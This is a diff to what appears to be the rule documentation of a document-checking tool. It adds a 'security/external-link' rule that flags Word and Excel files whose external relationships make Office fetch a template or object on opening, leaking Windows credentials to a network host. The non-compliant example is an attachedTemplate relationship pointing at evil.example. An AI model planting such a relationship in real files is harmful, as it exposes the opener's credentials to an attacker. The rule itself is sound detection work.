@@ -80,6 +80,16 @@ no trusted root is ``valid-untrusted``: not reported by this rule.
 Compliant: a contract PDF signed with a certificate and not changed since. Non-compliant: the same
 PDF with an incremental update that replaces a page's text after it was signed.
 
+### security/external-link
+A .docx/.xlsx whose relationships point outside the file at something Word or Excel fetches on
+opening: an attached template, a frame, a sub-document, a linked object or picture, a link to
+another workbook. On a network share (``\\\\host\\share\\t.dotm``) opening the file sends the
+opener's Windows credentials to that host. The file is read and checked as usual; nothing is fetched.
+Hyperlinks (followed only on a click) are not reported.
+
+Compliant: a template-free .docx with hyperlinks. Non-compliant: ``word/_rels/settings.xml.rels``
+with ``Type=".../attachedTemplate" Target="file://///evil.example/share/t.dotm" TargetMode="External"``.
+
 ### security/unencrypted-contract
 A contract file that opens without a password where the policy (``contracts_encrypted: true``)
 asks contracts to be stored encrypted.
